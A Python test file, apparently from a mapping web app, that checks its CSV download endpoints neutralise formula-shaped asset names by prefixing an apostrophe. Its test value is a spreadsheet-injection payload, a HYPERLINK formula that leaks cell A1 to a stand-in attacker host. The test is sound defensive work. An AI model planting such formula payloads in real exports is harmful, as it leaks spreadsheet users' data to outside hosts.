"""The map's CSV downloads: a formula-shaped asset name arrives in a spreadsheet as text."""

from __future__ import annotations

import csv
import io

from fastapi.testclient import TestClient
from sqlalchemy import update

from placehub.db import Database
from placehub.sta.tables import things
from tests.web.seed import Seeded

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'


def test_csv_downloads_escape_formula_names(officer_client: TestClient, seeded: Seeded,
                                           database: Database) -> None:
    """/map.csv and /public/map.csv write a Thing named =HYPERLINK(...) with an apostrophe."""
    with database.begin() as conn:
        conn.execute(update(things).values(name=FORMULA))
    for path in ("/map.csv", "/public/map.csv"):
        response = officer_client.get(path)
        assert response.status_code == 200, path
        names = [row["name"] for row in csv.DictReader(io.StringIO(response.text))]
        assert names and all(name == "'" + FORMULA for name in names), (path, names[:2])
